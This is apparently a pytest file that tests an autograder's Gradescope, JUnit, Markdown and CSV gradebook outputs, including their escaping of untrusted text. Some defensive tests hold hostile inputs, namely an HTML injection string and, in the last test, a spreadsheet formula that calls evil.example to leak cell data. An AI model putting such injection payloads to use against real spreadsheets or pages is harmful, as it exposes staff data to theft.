"""Every view of a report, checked by a real consumer: a JSON schema written from Gradescope's documented
results.json, a JUnit XSD written from the CI servers' documented format (tests/junit.xsd) plus xml.etree, and the exit code of `--fail-under` in every format."""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import jsonschema
import pytest
import xmlschema
from click.testing import CliRunner

from grader import cli
from grader.judge.grading import grade_submission
from grader.report import ERROR, FAILED, CheckResult, Report, validate
from grader.judge.spec import EXAMPLES, SpecError, load
from grader.report.views import VIEWS, gradescope_results, render_junit, render_markdown

HERE = Path(__file__).parent
GRADESCOPE_SCHEMA = json.loads((HERE / "gradescope_results.schema.json").read_text())
JUNIT_XSD = xmlschema.XMLSchema(str(HERE / "junit.xsd"))
GRADESCOPE_KEYS = {"score", "execution_time", "output", "visibility", "stdout_visibility", "tests"}
GRADESCOPE_TEST_KEYS = {"name", "score", "max_score", "status", "output", "tags", "visibility", "number"}


@pytest.fixture(scope="module")
def seed_report() -> Report:
    """The real student's report: gradient_d_bs and update fail, three misconceptions named."""
    return grade_submission(EXAMPLES / "seed_student.py", load())


def made_up_report(*tests: CheckResult) -> Report:
    """A report built by hand, for what the examples do not produce (grader errors, hostile text)."""
    return Report(spec_id="rnn-seq2one", spec_version="1.0.0", submission_name="sub.py", sha256="0" * 64,
                  grader_version="0", seed=1, tests=list(tests), execution_time=1.5)


def gradescope_valid(results: dict) -> None:
    jsonschema.validate(results, GRADESCOPE_SCHEMA, cls=jsonschema.Draft202012Validator)


# ------------------------------------------------------------------ Gradescope

def test_gradescope_view_has_exactly_gradescopes_keys_and_validates(seed_report):
    results = json.loads(VIEWS["gradescope"](seed_report))
    gradescope_valid(results)
    assert set(results) == GRADESCOPE_KEYS
    assert all(set(t) == GRADESCOPE_TEST_KEYS for t in results["tests"])
    assert results["score"] == 8.5 and results["stdout_visibility"] == "hidden"
    assert [t["number"] for t in results["tests"]] == [str(i) for i in range(1, 14)]
    failed = {t["name"]: t for t in results["tests"] if t["status"] == "failed"}
    assert set(failed) == {"gradient_d_bs", "update"} and failed["update"]["score"] == 0
    # Gradescope has no diagnoses list, so each misconception's hint travels with its check
    assert "Hint: Gradient descent subtracts the step" in failed["update"]["output"]
    assert "Hint: Return each gradient shaped exactly like its parameter" in failed["gradient_d_bs"]["output"]
    assert "gradient_d_bs" in results["output"]


def test_the_gradescope_schema_refuses_what_gradescope_does_not_know(seed_report):
    with pytest.raises(jsonschema.ValidationError, match="Additional properties"):
        gradescope_valid(seed_report.to_dict())  # our report adds max_score, diagnoses, spec, ...
    results = gradescope_results(seed_report)
    results["tests"][0]["status"] = "error"
    with pytest.raises(jsonschema.ValidationError, match="'error' is not one of"):
        gradescope_valid(results)


def test_a_grader_error_is_a_failed_test_that_says_so():
    report = made_up_report(CheckResult("update", 1.0, ERROR, "The grader itself failed while running this check."))
    results = gradescope_results(report)
    gradescope_valid(results)
    assert results["tests"][0]["status"] == "failed" and "grader itself failed" in results["tests"][0]["output"]


def test_checks_shown_later_are_not_announced_in_the_overall_output():
    report = made_up_report(CheckResult("forward_shape", 0.5, FAILED, "wrong shape"),
                            CheckResult("numerical_gradient", 3.0, FAILED, "off", visibility="after_due_date"))
    report.visibility = "after_published"
    results = gradescope_results(report)
    gradescope_valid(results)
    assert [t["visibility"] for t in results["tests"]] == ["visible", "after_due_date"]
    assert results["visibility"] == "after_published"
    assert "forward_shape" in results["output"] and "numerical_gradient" not in results["output"]
    assert "1 more checks are shown later" in results["output"]


def test_the_spec_decides_visibility_and_the_report_carries_it(tmp_path):
    spec = load()
    spec.data["visibility"] = {"checks": "after_due_date", "stdout": "visible"}
    for check in spec.checks:
        if check["name"] in ("interface", "forward_shape"):
            check["visibility"] = "visible"
    path = tmp_path / "course.json"
    path.write_text(json.dumps(spec.data))
    report = grade_submission(EXAMPLES / "mutant_forward_shape.py", load(path))
    validate(report.to_dict())
    shown = {t.name: t.visibility for t in report.tests}
    assert shown.pop("interface") == shown.pop("forward_shape") == "visible"
    assert set(shown.values()) == {"after_due_date"}
    results = gradescope_results(report)
    assert (results["visibility"], results["stdout_visibility"]) == ("visible", "visible")
    assert {t["name"]: t["visibility"] for t in results["tests"]}["numerical_gradient"] == "after_due_date"


def test_the_default_spec_shows_every_check_at_once_and_hides_the_graders_log(seed_report):
    assert {t.visibility for t in seed_report.tests} == {"visible"}
    assert seed_report.to_dict()["stdout_visibility"] == "hidden"


def test_a_spec_with_an_unknown_visibility_is_refused(tmp_path):
    spec = load()
    spec.checks[1]["visibility"] = "later"
    path = tmp_path / "bad.json"
    path.write_text(json.dumps(spec.data))
    with pytest.raises(SpecError, match="checks/1/visibility: 'later' is not one of"):
        load(path)


# ------------------------------------------------------------------ JUnit

def test_junit_view_follows_the_jenkins_schema_with_one_testcase_per_check(seed_report):
    xml = render_junit(seed_report)
    JUNIT_XSD.validate(xml)
    suite = ET.fromstring(xml).find("testsuite")
    cases = suite.findall("testcase")
    assert [c.get("name") for c in cases] == [t.name for t in seed_report.tests]
    assert (suite.get("tests"), suite.get("failures"), suite.get("errors")) == ("13", "2", "0")
    failures = {c.get("name"): c.find("failure") for c in cases if c.find("failure") is not None}
    assert set(failures) == {"gradient_d_bs", "update"}
    by_name = {t.name: t for t in seed_report.tests}
    assert failures["update"].get("message") == by_name["update"].output
    assert failures["update"].text.startswith("0 / 1 points") and "Hint:" in failures["update"].text
    properties = {p.get("name"): p.get("value") for p in suite.find("properties")}
    assert (properties["score"], properties["max_score"]) == ("8.5", "10")
    assert (properties["update.score"], properties["update.max_score"]) == ("0", "1")
    assert properties["numerical_gradient.score"] == "3"


def test_junit_survives_hostile_text_and_reports_grader_errors_as_errors():
    hostile = "printed \x00\x1b[31m red \x07 and <tags> & \ud800 \"quotes\""
    report = made_up_report(CheckResult("forward_values", 1.5, FAILED, hostile),
                            CheckResult("update", 1.0, ERROR, "The grader itself failed."))
    report.submission_name = "weird\x01name.py"
    xml = render_junit(report)
    JUNIT_XSD.validate(xml)
    suite = ET.fromstring(xml).find("testsuite")
    failure = suite.find("testcase[@name='forward_values']/failure")
    assert "<tags> & " in failure.get("message") and "\x00" not in failure.get("message")
    assert suite.find("testcase[@name='update']/error").get("message") == "The grader itself failed."
    assert (suite.get("failures"), suite.get("errors")) == ("1", "1")


# ------------------------------------------------------------------ Markdown

def test_markdown_view_is_a_table_with_the_misconceptions_first(seed_report):
    md = render_markdown(seed_report)
    assert md.startswith("### seed\\_student.py: 8.5 / 10\n")  # the file name's Markdown is escaped
    rows = [line for line in md.splitlines() if line.startswith("| ") and "`" in line]
    assert len(rows) == 13
    assert any(r.startswith("| ❌ | `update` | 0 / 1 |") for r in rows)
    assert any(r.startswith("| ✅ | `numerical_gradient` | 3 / 3 |") for r in rows)
    assert md.index("What seems to be wrong") < md.index("| --- |")


def test_markdown_cells_cannot_break_the_table_or_inject_html():
    report = made_up_report(CheckResult("forward_values", 1.5, FAILED, "a | b\n<img src=x> `x < y`"))
    row = [line for line in render_markdown(report).splitlines() if "forward_values" in line][0]
    assert len(re.split(r"(?<!\\)\|", row)) == 6, "four cells, whatever the feedback holds"
    assert "a &#124; b<br>&lt;img src=x&gt; <code>x &lt; y</code>" in row


# ------------------------------------------------------------------ the command line

@pytest.mark.parametrize("fmt", sorted(VIEWS))
def test_fail_under_works_with_every_format(fmt):
    below = CliRunner().invoke(cli.main, [str(EXAMPLES / "seed_student.py"), "--format", fmt, "--fail-under", "90"])
    assert below.exit_code == 1
    assert "Score 8.5/10 is below --fail-under 90%" in below.stderr
    assert "below --fail-under" not in below.stdout, "stdout stays a clean document for the format"
    if fmt in ("json", "gradescope"):
        assert json.loads(below.stdout)["score"] == 8.5
    if fmt == "junit":
        JUNIT_XSD.validate(below.stdout)
    above = CliRunner().invoke(cli.main, [str(EXAMPLES / "seed_student.py"), "--format", fmt, "--fail-under", "85"])
    assert above.exit_code == 0 and above.stdout and "fail-under" not in above.stderr


def test_a_name_that_starts_like_a_formula_is_text_in_every_gradebook():
    """Red team (LTI): a student's display name `=HYPERLINK(...)` reached gradebook.csv as a formula, which
    staff's spreadsheet would run. Cells that start like one get a leading apostrophe; scores stay numbers."""
    import csv
    import io

    from grader.course import gradebook

    student = {"id": "42", "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click me")', "email": "@SUM(1+1)",
               "score": 8.5, "max_score": 10.0, "status": "graded", "feedback": "-2+3 points: see the page"}
    for kind in gradebook.FORMATS:
        cells = [c for row in csv.reader(io.StringIO(gradebook.text(kind, [student], "A1"))) for c in row]
        assert not any(c[:1] in "=+-@" for c in cells if c), (kind, cells)
        assert any(c.startswith("'=HYPERLINK") for c in cells), (kind, cells)
        assert "8.5" in cells or "8.50" in cells
